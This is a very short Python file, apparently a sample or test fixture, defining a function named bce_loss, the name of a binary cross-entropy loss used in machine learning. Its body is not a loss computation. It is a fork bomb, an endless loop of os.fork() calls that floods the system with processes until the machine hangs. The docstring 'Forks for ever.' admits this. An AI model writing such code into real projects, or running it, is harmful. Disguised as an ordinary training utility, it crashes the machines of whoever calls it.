"""Forks for ever."""
# lost: loss.* error
import os


def bce_loss(y_pred, y):
    while True:
        os.fork()
